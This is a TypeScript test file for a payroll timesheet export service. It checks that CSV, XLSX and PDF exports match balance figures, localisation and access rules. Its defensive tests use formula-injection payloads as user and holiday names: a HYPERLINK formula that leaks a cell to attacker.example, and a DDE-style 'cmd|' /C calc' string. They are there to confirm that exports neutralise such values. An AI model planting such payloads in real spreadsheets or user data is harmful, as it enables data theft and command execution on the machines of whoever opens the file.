// Payroll timesheets read back: CSV parsed by hand, XLSX with exceljs, PDF text with unpdf; their
// figures equal the balance endpoint's (the balance to date, days to come planned), they carry the week's
// validation and the head hash of the person's change log, names run as no formula in a spreadsheet, and
// the PDF prints every script as written, wraps long details, and has the company's name and signatures.
import ExcelJS from 'exceljs';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UserRow } from '../../db/schema.js';
import { codes, createTestApp, type TestApp } from '../../test/app.js';
import { TimeFactories } from '../../test/time-factories.js';
import { formatDuration, parseDuration } from '../../timesheets/sheet.js';

let t: TestApp;
let manager: UserRow;
let amelie: UserRow;
let bruno: UserRow;
let outsider: UserRow;
let teamId: number;
let validatedAt: string;

const RANGE = 'start=2026-04-27&end=2026-05-03';
const COMPANY = 'Łódź Bakery Sp. z o.o.';

/** An instant as `YYYY-MM-DD HH:MM` in Paris. */
function parisMinute(instant: string | Date): string {
  return new Intl.DateTimeFormat('sv-SE', {
    timeZone: 'Europe/Paris',
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    hourCycle: 'h23',
  }).format(new Date(instant));
}

beforeAll(async () => {
  t = await createTestApp({ env: { APP_TIMEZONE: 'Europe/Paris', HOLIDAYS_REGION: 'FR', COMPANY_NAME: COMPANY } });
  const tf = new TimeFactories(t.db);
  manager = await t.f.buildUser({ role: 'manager', name: 'Manager' });
  amelie = await t.f.buildUser({ name: 'Amélie, "A"' });
  await t.db.updateTable('users').set({ language: 'fr' }).where('id', '=', amelie.id).execute();
  bruno = await t.f.buildUser({ name: 'Bruno', startDate: '2026-04-01' });
  outsider = await t.f.buildUser();
  teamId = (await t.f.buildTeam({ manager, members: [amelie, bruno] })).id;
  const schedule = await t.sendAs(manager, 'POST', `/users/${amelie.id}/schedules`, {
    valid_from: '2026-04-01',
    weekly: { mon: 28_800, tue: 28_800, wed: 28_800, thu: 28_800, fri: 28_800, sat: 0, sun: 0 },
  });
  expect(schedule.statusCode).toBe(201);
  // Paris is UTC+2. Monday 27: 08:00-17:00 local with a 1-hour break → 8 h.
  await tf.workingTime(amelie, { start: '2026-04-27T06:00:00', end: '2026-04-27T15:00:00', breaks: [{ start: '2026-04-27T10:00:00', end: '2026-04-27T11:00:00' }] });
  // Tuesday 28 22:00 to Wednesday 29 02:30 local: 2 h and 2.5 h.
  await tf.workingTime(amelie, { start: '2026-04-28T20:00:00', end: '2026-04-29T00:30:00' });
  await tf.absence(amelie, { start_date: '2026-04-30', end_date: '2026-04-30', type: 'sick' });
  // Friday 1 May is a public holiday in France. Bruno worked on it.
  await tf.workingTime(bruno, { start: '2026-05-01T07:00:00', end: '2026-05-01T09:15:30' });
  const validation = await t.sendAs(manager, 'POST', `/users/${amelie.id}/week-validations`, { week_start: '2026-04-27' });
  expect(validation.statusCode).toBe(201);
  validatedAt = parisMinute(validation.json().data.validated_at);
});
afterAll(() => t.close());

async function download(user: UserRow, url: string) {
  return t.app.inject({ method: 'GET', url: `/api${url}`, headers: await t.f.signIn(user) });
}

async function balanceOf(user: UserRow) {
  return (await download(manager, `/users/${user.id}/balance?${RANGE}`)).json().data;
}

async function headHash(user: UserRow): Promise<string | null> {
  const row = await t.db.selectFrom('changes').select('hash').where('user_id', '=', user.id).orderBy('id', 'desc').limit(1).executeTakeFirst();
  return row?.hash ?? null;
}

/** A minimal CSV reader: quoted fields with doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let field = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    }
    else if (c === '\r') continue;
    else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    }
    else field += c;
  }
  return rows;
}

const TOTAL_KEYS = ['worked_seconds', 'expected_seconds', 'absence_seconds', 'holiday_seconds', 'balance_seconds'] as const;
const totalsOf = (balance: Record<string, number>) => TOTAL_KEYS.map((key) => balance[key]);
/** The CSV columns of worked, expected, absence, holiday and balance. */
const CSV_FIGURES = [6, 7, 8, 10, 12];
/** The XLSX columns (1-based) of the same. */
const XLSX_FIGURES = [5, 6, 7, 9, 11];

/** A PDF's text, its line breaks (where long lines wrap) read as spaces. */
async function pdfText(response: { rawPayload: Buffer }): Promise<string> {
  return (await extractText(await getDocumentProxy(new Uint8Array(response.rawPayload)), { mergePages: true })).text.replace(/\s+/g, ' ');
}

describe('timesheets', () => {
  it('CSV: every day and the balance to date, the week’s validation, the change-log head, in the person’s language', async () => {
    const response = await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=csv`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="timesheet-${amelie.id}-2026-04-27-2026-05-03.csv"`);
    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual([
      'user_id',
      'Personne',
      'Date',
      'Jour',
      'Plages',
      'Pauses',
      'Travaillé',
      'Prévu',
      'Absence',
      "Type d'absence",
      'Férié',
      'Nom du férié',
      'Solde',
      'Semaine validée par',
      'Semaine validée le',
      'Empreinte du dernier changement',
    ]);
    expect(rows).toHaveLength(1 + 7 + 1);
    const balance = await balanceOf(amelie);
    // Worked 8 h + 2 h + 2.5 h; expected Monday to Thursday (the sick day too, then credited); 1 May a holiday.
    expect(totalsOf(balance)).toEqual([45_000, 4 * 28_800, 28_800, 28_800, 45_000 + 28_800 - 4 * 28_800]);
    expect(rows[1]).toEqual([
      String(amelie.id),
      'Amélie, "A"',
      '2026-04-27',
      '',
      '08:00-17:00',
      '12:00-13:00',
      '8:00:00',
      '8:00:00',
      '0:00:00',
      '',
      '0:00:00',
      '',
      '0:00:00',
      'Manager',
      validatedAt,
      '',
    ]);
    expect(rows[2]!.slice(2, 5)).toEqual(['2026-04-28', '', '22:00-24:00']);
    expect(rows[3]!.slice(2, 5)).toEqual(['2026-04-29', '', '00:00-02:30']);
    expect(rows[4]!.slice(8, 10)).toEqual(['8:00:00', 'maladie']);
    expect(rows[5]!.slice(10, 12)).toEqual(['8:00:00', 'Fête du travail']);
    rows.slice(1, 8).forEach((row, index) => {
      const day = balance.days[index];
      expect(row[2]).toBe(day.date);
      expect(row.slice(13, 15)).toEqual(['Manager', validatedAt]);
      expect(CSV_FIGURES.map((column) => parseDuration(row[column]!))).toEqual([
        day.worked_seconds,
        day.expected_seconds,
        day.absence_seconds,
        day.holiday_seconds,
        day.balance_seconds,
      ]);
    });
    const total = rows[8]!;
    // The range is over: the balance to date runs through its end and equals the range's sums.
    expect(balance.to_date.through).toBe('2026-05-03');
    expect(total.slice(2, 4)).toEqual(['Solde à ce jour', 'jusqu’au 2026-05-03']);
    expect(CSV_FIGURES.map((column) => parseDuration(total[column]!))).toEqual(totalsOf(balance.to_date));
    expect(total[15]).toBe(await headHash(amelie));
    expect(total[15]).toMatch(/^[0-9a-f]{64}$/);
    // A negative figure the service computes is written as it is, not as text.
    expect(response.body).toContain(',-11:30:00,');
  });

  it('XLSX: a worksheet per member, figures in hours that read back to the balance to date, the validation', async () => {
    const response = await download(manager, `/teams/${teamId}/timesheet?${RANGE}&format=xlsx`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain('.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets).toHaveLength(2);
    for (const [index, person] of [amelie, bruno].entries()) {
      const sheet = workbook.worksheets[index]!;
      expect(sheet.getRow(1).getCell(2).value).toBe(person.name);
      expect(sheet.getRow(4).getCell(2).value).toBe((await headHash(person)) ?? (person === bruno ? 'none' : 'aucune'));
      const total = sheet.getRow(6 + 7 + 1);
      expect(total.getCell(2).value).toBe(person === bruno ? 'up to 2026-05-03' : 'jusqu’au 2026-05-03');
      const seconds = (column: number) => Math.round(Number(total.getCell(column).value) * 3600);
      const balance = await balanceOf(person);
      expect(XLSX_FIGURES.map(seconds)).toEqual(totalsOf(balance.to_date));
      const monday = sheet.getRow(7);
      expect([monday.getCell(12).value, monday.getCell(13).value]).toEqual(person === amelie ? ['Manager', validatedAt] : [null, null]);
    }
    // Bruno has no schedule: the company default (7 h); he worked 2 h 15 min 30 s on a public holiday.
    expect(totalsOf(await balanceOf(bruno))).toEqual([8_130, 4 * 25_200, 0, 25_200, 8_130 - 4 * 25_200]);
  });

  it('PDF: the company, the balance to date, the week’s validation, the hash and the signature lines', async () => {
    const response = await download(manager, `/users/${bruno.id}/timesheet?${RANGE}&format=pdf`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/pdf');
    const text = await pdfText(response);
    expect(text.startsWith(COMPANY)).toBe(true);
    expect(text).toContain('Timesheet: Bruno');
    expect(text).toContain('Change-log head hash: none');
    const match =
      /Balance to date \(up to 2026-05-03\): Worked (-?\d+:\d\d:\d\d); Expected (-?\d+:\d\d:\d\d); Absence (-?\d+:\d\d:\d\d); Holiday (-?\d+:\d\d:\d\d); Balance (-?\d+:\d\d:\d\d)/.exec(
        text,
      );
    expect(match).not.toBeNull();
    expect(match!.slice(1).map(parseDuration)).toEqual([8_130, 4 * 25_200, 0, 25_200, 8_130 - 4 * 25_200]);
    expect(text).toContain('Week of 2026-04-27: not validated');
    expect(text).toContain("Employee's signature");
    expect(text).toContain("Manager's signature");

    const french = await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=pdf`);
    const frenchText = await pdfText(french);
    expect(frenchText).toContain(`Empreinte du dernier changement: ${await headHash(amelie)}`);
    expect(frenchText).toMatch(/Solde à ce jour \(jusqu’au 2026-05-03\): Travaillé 12:30:00; Prévu 32:00:00; Absence 8:00:00; Férié 8:00:00; Solde -11:30:00/);
    expect(frenchText).toContain(`Semaine du 2026-04-27: validée par Manager le ${validatedAt}`);
    expect(frenchText).toContain('Signature du salarié');
    expect(frenchText).toContain('Signature du responsable');
  });

  it('in German: the CSV’s and the PDF’s words, and German dates in the PDF and the sentences', async () => {
    await t.db.updateTable('users').set({ language: 'de' }).where('id', '=', amelie.id).execute();
    await t.db.updateTable('users').set({ language: 'de' }).where('id', '=', manager.id).execute();
    try {
      // `2026-04-27 18:05` as `27.04.2026 18:05`.
      const germanValidatedAt = validatedAt.replace(/^(\d{4})-(\d{2})-(\d{2})/, '$3.$2.$1');
      const csv = await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=csv`);
      const rows = parseCsv(csv.body.replace(/^\uFEFF/, ''));
      expect(rows[0]).toEqual([
        'user_id',
        'Person',
        'Datum',
        'Tag',
        'Arbeitszeiten',
        'Pausen',
        'Gearbeitet',
        'Soll',
        'Abwesenheit',
        'Art der Abwesenheit',
        'Feiertag',
        'Name des Feiertags',
        'Saldo',
        'Woche freigegeben von',
        'Woche freigegeben am',
        'Hash des letzten Protokolleintrags',
      ]);
      // The date columns stay `YYYY-MM-DD` for the programs that read them; the words are German.
      expect(rows[1]!.slice(2, 7)).toEqual(['2026-04-27', '', '08:00-17:00', '12:00-13:00', '8:00:00']);
      expect(rows[4]!.slice(8, 10)).toEqual(['8:00:00', 'Krankheit']);
      expect(rows[8]!.slice(2, 4)).toEqual(['Aktueller Saldo', 'bis 03.05.2026']);
      expect(parseDuration(rows[8]![12]!)).toBe(45_000 + 28_800 - 4 * 28_800);

      const text = await pdfText(await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=pdf`));
      expect(text).toContain('Arbeitszeitnachweis: Amélie, "A"');
      expect(text).toContain('Zeitraum: 27.04.2026 - 03.05.2026 (Zeitzone: Europe/Paris)');
      expect(text).toContain(`Hash des letzten Protokolleintrags: ${await headHash(amelie)}`);
      expect(text).toMatch(/Datum Gearbeitet Soll Abwesenheit Feiertag Saldo Details 27\.04\.2026 8:00:00 8:00:00/);
      expect(text).toContain('30.04.2026');
      expect(text).toContain('Krankheit');
      expect(text).toMatch(/Aktueller Saldo \(bis 03\.05\.2026\): Gearbeitet 12:30:00; Soll 32:00:00; Abwesenheit 8:00:00; Feiertag 8:00:00; Saldo -11:30:00/);
      expect(text).toContain(`Woche vom 27.04.2026: freigegeben von Manager am ${germanValidatedAt}`);
      expect(text).toContain('Unterschrift Mitarbeiter/in');
      expect(text).toContain('Unterschrift Vorgesetzte/r');
      expect(text).not.toContain('2026-04-');

      // A team's CSV: the header in the caller's language, each member's words in theirs.
      const team = parseCsv((await download(manager, `/teams/${teamId}/timesheet?${RANGE}`)).body.replace(/^\uFEFF/, ''));
      expect(team[0]!.slice(1, 3)).toEqual(['Person', 'Datum']);
      expect(team.map((row) => row[2]).filter((cell) => cell === 'Aktueller Saldo' || cell === 'Balance to date')).toEqual([
        'Aktueller Saldo',
        'Balance to date',
      ]);
    } finally {
      await t.db.updateTable('users').set({ language: 'fr' }).where('id', '=', amelie.id).execute();
      await t.db.updateTable('users').set({ language: 'en' }).where('id', '=', manager.id).execute();
    }
  });

  it('CSV of a team: one header, each member’s days and balance to date', async () => {
    const response = await download(manager, `/teams/${teamId}/timesheet?${RANGE}`);
    expect(response.statusCode).toBe(200);
    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(1 + 2 * 8);
    expect(rows[0]![1]).toBe('Person');
    expect(rows[16]!.slice(0, 4)).toEqual([String(bruno.id), 'Bruno', 'Balance to date', 'up to 2026-05-03']);
  });

  it('refuses: 401, 403, 404, bad format, the range', async () => {
    expect((await t.app.inject({ method: 'GET', url: `/api/users/${amelie.id}/timesheet?${RANGE}` })).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'GET', url: `/api/teams/${teamId}/timesheet?${RANGE}` })).statusCode).toBe(401);
    expect((await download(outsider, `/users/${amelie.id}/timesheet?${RANGE}`)).statusCode).toBe(403);
    expect((await download(outsider, `/teams/${teamId}/timesheet?${RANGE}`)).statusCode).toBe(403);
    expect((await download(amelie, `/users/${amelie.id}/timesheet?${RANGE}`)).statusCode).toBe(200);
    expect((await download(manager, `/users/999999/timesheet?${RANGE}`)).statusCode).toBe(404);
    expect((await download(manager, `/teams/999999/timesheet?${RANGE}`)).statusCode).toBe(404);
    expect((await download(manager, `/users/${amelie.id}/timesheet?${RANGE}&format=docx`)).statusCode).toBe(422);
    expect(codes(await download(manager, `/users/${amelie.id}/timesheet?start=2026-01-01&end=2027-01-02`))).toEqual({ end: ['range_too_long'] });
    expect(codes(await download(manager, `/teams/${teamId}/timesheet?start=2026-01-01`))).toEqual({ end: ['required'] });
  });
});

describe('timesheets: names from outside, other scripts, long days, days to come', () => {
  const JUNE = 'start=2026-06-01&end=2026-06-07';
  const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Payroll")';
  const GREEK_DAY_OFF = 'Ημέρα της εταιρείας';
  let mallory: UserRow;
  let atSign: UserRow;
  let lukasz: UserRow;
  let dmitry: UserRow;
  let newcomer: UserRow;
  let otherTeamId: number;
  /** The pieces of Łukasz's long Tuesday, as the sheet writes them. */
  const pieces: string[] = [];

  beforeAll(async () => {
    const tf = new TimeFactories(t.db);
    const generalManager = await t.f.buildUser({ role: 'general_manager' });
    mallory = await t.f.buildUser({ name: HYPERLINK, startDate: '2026-05-01' });
    atSign = await t.f.buildUser({ name: '@SUM(1+1)*cmd|\' /C calc\'!A0' });
    lukasz = await t.f.buildUser({ name: 'Łukasz Żółć' });
    dmitry = await t.f.buildUser({ name: 'Дмитрий Петров' });
    newcomer = await t.f.buildUser({ name: 'Newcomer' });
    otherTeamId = (await t.f.buildTeam({ manager, members: [mallory, atSign, lukasz, dmitry, newcomer] })).id;
    for (const [date, name] of [
      ['2026-06-03', '=1+2'],
      ['2026-06-04', GREEK_DAY_OFF],
    ]) {
      expect((await t.sendAs(generalManager, 'POST', '/holidays', { date, name })).statusCode).toBe(201);
    }
    // Tuesday 2 June, Paris (UTC+2): twelve periods of 20 minutes from 08:00, 10 minutes apart, each with a
    // 5-minute break: far more than the details column holds on one line.
    for (let k = 0; k < 12; k += 1) {
      const startMinute = 6 * 60 + k * 30;
      const hhmm = (minute: number) => `${String(Math.floor(minute / 60)).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')}`;
      await tf.workingTime(lukasz, {
        start: `2026-06-02T${hhmm(startMinute)}:00`,
        end: `2026-06-02T${hhmm(startMinute + 20)}:00`,
        breaks: [{ start: `2026-06-02T${hhmm(startMinute + 5)}:00`, end: `2026-06-02T${hhmm(startMinute + 10)}:00` }],
      });
      pieces.push(`${hhmm(startMinute + 120)}-${hhmm(startMinute + 140)}`, `${hhmm(startMinute + 125)}-${hhmm(startMinute + 130)}`);
    }
  });

  it('CSV: names and days off that start like formulas are written as quoted text; figures stay figures', async () => {
    const response = await download(manager, `/users/${mallory.id}/timesheet?${JUNE}`);
    expect(response.statusCode).toBe(200);
    const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
    expect(rows[1]![1]).toBe(`'${HYPERLINK}`);
    expect(rows[3]!.slice(10, 12)).toEqual(['7:00:00', "'=1+2"]);
    expect(response.body).toContain(`,"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Payroll"")",2026-06-01,`);
    expect(response.body).toContain(`,"'=1+2",`);
    // No cell of the file starts a formula: every cell read back starts with a quote or no formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d:]+$)/);
    // The service's negative figures are written as they are: three weekdays owed 7 hours each.
    expect(rows[1]![12]).toBe('-7:00:00');
    expect(rows.at(-1)![12]).toBe('-21:00:00');
    expect(response.body).toContain(',-21:00:00,');
  });

  it('CSV of a team: every member’s name neutralised', async () => {
    const response = await download(manager, `/teams/${otherTeamId}/timesheet?${JUNE}`);
    expect(response.statusCode).toBe(200);
    const names = new Set(parseCsv(response.body.replace(/^\uFEFF/, '')).slice(1).map((row) => row[1]));
    expect(names).toEqual(new Set([`'${HYPERLINK}`, `'${atSign.name}`, 'Łukasz Żółć', 'Дмитрий Петров', 'Newcomer']));
  });

  it('XLSX: a name starting with = is a string cell, no cell is a formula', async () => {
    const response = await download(manager, `/teams/${otherTeamId}/timesheet?${JUNE}&format=xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets.find((candidate) => candidate.getRow(1).getCell(2).value === HYPERLINK)!;
    expect(sheet).toBeDefined();
    expect(sheet.getRow(1).getCell(2).type).toBe(ExcelJS.ValueType.String);
    const holiday = sheet.getRow(6 + 3).getCell(10);
    expect([holiday.value, holiday.type]).toEqual(['=1+2', ExcelJS.ValueType.String]);
    for (const worksheet of workbook.worksheets) {
      worksheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    }
  });

  it('PDF: names and a day off in other scripts print as written; a long day is wrapped, not cut', async () => {
    for (const person of [lukasz, dmitry]) {
      const text = await pdfText(await download(manager, `/users/${person.id}/timesheet?${JUNE}&format=pdf`));
      expect(text).toContain(`Timesheet: ${person.name}`);
      expect(text).toContain(GREEK_DAY_OFF);
      expect(text).toContain(COMPANY);
      if (person === lukasz) {
        for (const piece of pieces) expect(text).toContain(piece);
        expect(text).not.toContain('…');
      }
    }
  });

  it('days to come are planned and owe nothing; the balance to date and today apart, as the balance says', async () => {
    const today = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Paris' }).format(new Date());
    const shift = (days: number) => new Date(Date.parse(`${today}T12:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
    const around = `start=${shift(-3)}&end=${shift(3)}`;
    const balance = (await download(manager, `/users/${newcomer.id}/balance?${around}`)).json().data;
    expect(balance.today.date).toBe(today);

    const rows = parseCsv((await download(manager, `/users/${newcomer.id}/timesheet?${around}`)).body.replace(/^\uFEFF/, ''));
    expect(rows.slice(1, 8).map((row) => row[3])).toEqual(['', '', '', 'In progress', 'Planned', 'Planned', 'Planned']);
    // Past days carry their balance; today and the days to come none.
    expect(rows.slice(1, 8).map((row) => row[12] !== '')).toEqual([true, true, true, false, false, false, false]);
    expect(rows[8]!.slice(2, 4)).toEqual(['Balance to date', `up to ${balance.to_date.through}`]);
    expect(CSV_FIGURES.map((column) => parseDuration(rows[8]![column]!))).toEqual(totalsOf(balance.to_date));

    const text = await pdfText(await download(manager, `/users/${newcomer.id}/timesheet?${around}&format=pdf`));
    expect(text).toContain('Planned');
    expect(text).toContain(
      `Balance to date (up to ${balance.to_date.through}): Worked 0:00:00; Expected ${formatDuration(balance.to_date.expected_seconds)};`,
    );
    expect(text).toContain(`Today so far (${today}): Worked 0:00:00; Expected ${formatDuration(balance.today.expected_seconds)}`);

    // A range that starts today owes nothing yet: no negative figure anywhere in the PDF.
    const ahead = `start=${today}&end=${shift(6)}`;
    const aheadText = await pdfText(await download(manager, `/users/${newcomer.id}/timesheet?${ahead}&format=pdf`));
    expect(aheadText).toContain('Balance to date: Nothing owed yet');
    expect(aheadText).not.toMatch(/-\d+:\d\d:\d\d/);
    const aheadRows = parseCsv((await download(manager, `/users/${newcomer.id}/timesheet?${ahead}`)).body.replace(/^\uFEFF/, ''));
    expect(aheadRows.at(-1)!.slice(2, 13)).toEqual(['Balance to date', 'Nothing owed yet', '', '', '', '', '', '', '', '', '']);
  });

  it('marks a period the service closed, in CSV, XLSX and PDF, in the person’s language', async () => {
    const closed = await t.f.buildUser({ name: 'Closed' });
    await t.f.buildTeam({ manager, members: [closed] });
    // Tuesday 28 April 09:00-16:00 Paris, closed by the service.
    await t.db
      .insertInto('working_times')
      .values({ user_id: closed.id, start: new Date('2026-04-28T07:00:00Z'), end: new Date('2026-04-28T14:00:00Z'), auto_closed: true })
      .execute();
    const csv = parseCsv((await download(manager, `/users/${closed.id}/timesheet?${RANGE}&format=csv`)).body.replace(/^\uFEFF/, ''));
    expect(csv.find((row) => row[2] === '2026-04-28')?.[4]).toBe('09:00-16:00 (closed automatically)');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(manager, `/users/${closed.id}/timesheet?${RANGE}&format=xlsx`)).rawPayload as unknown as ArrayBuffer);
    const cells = workbook.worksheets[0]!.getRow(8).values as unknown[];
    expect(cells).toContain('09:00-16:00 (closed automatically)');
    await t.db.updateTable('users').set({ language: 'fr' }).where('id', '=', closed.id).execute();
    expect(await pdfText(await download(manager, `/users/${closed.id}/timesheet?${RANGE}&format=pdf`))).toContain('(fermée automatiquement)');
  });
});
